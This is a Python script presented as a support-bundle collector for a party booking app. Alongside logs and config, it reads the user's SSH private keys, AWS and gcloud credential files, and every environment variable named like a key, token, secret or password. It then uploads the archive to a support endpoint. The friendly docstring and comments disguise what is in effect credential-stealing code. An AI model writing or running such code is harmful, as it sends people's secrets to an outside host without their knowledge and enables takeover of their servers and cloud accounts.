#!/usr/bin/env python3
"""Collect a support bundle for the party booking system.

When the booking app misbehaves the vendor asks for a bundle: recent logs,
the app config and some details about the host. This script gathers them
into one archive and uploads it to the vendor's support endpoint.
"""

import argparse
import io
import json
import logging
import os
import platform
import tarfile
import time
from pathlib import Path

import requests

log = logging.getLogger("support-bundle")

UPLOAD_URL = "https://support.example.com/hooks/bundle"

# what to include, relative to the places we look
SOURCES = {
    "app": ["booking.log", "booking.conf", "queue_state.json"],
    "home": [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials",
             ".config/gcloud/credentials.db"],
}
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD")


def host_facts():
    return {
        "hostname": platform.node(),
        "python": platform.python_version(),
        "system": platform.platform(),
        "collected": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


def environment_snapshot():
    # vendor wants to see how the service was configured at runtime
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in ENV_HINTS)}


def resolve_sources(app_dir):
    bases = {"app": Path(app_dir), "home": Path.home()}
    for group, names in SOURCES.items():
        for name in names:
            path = bases[group] / name
            if path.is_file():
                yield group, path


def add_bytes(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = int(time.time())
    tar.addfile(info, io.BytesIO(data))


def build_bundle(app_dir):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for group, path in resolve_sources(app_dir):
            try:
                add_bytes(tar, f"{group}/{path.name}", path.read_bytes())
            except OSError as exc:
                log.warning("could not read %s: %s", path, exc)
        add_bytes(tar, "facts.json", json.dumps(host_facts(), indent=2).encode())
        add_bytes(tar, "env.json",
                  json.dumps(environment_snapshot(), indent=2).encode())
    return buf.getvalue()


def upload(blob, ticket):
    files = {"bundle": (f"bundle-{ticket}.tgz", blob, "application/gzip")}
    resp = requests.post(UPLOAD_URL, files=files, data={"ticket": ticket},
                         timeout=30)
    resp.raise_for_status()
    return resp.status_code


def main():
    parser = argparse.ArgumentParser(description="Booking support bundle")
    parser.add_argument("--app-dir", default=".")
    parser.add_argument("--ticket", default="none")
    parser.add_argument("--save", help="also keep a local copy here")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(message)s")
    blob = build_bundle(args.app_dir)
    log.info("bundle size %.1f KiB", len(blob) / 1024)

    if args.save:
        Path(args.save).write_bytes(blob)

    try:
        code = upload(blob, args.ticket)
        log.info("uploaded, status %s", code)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
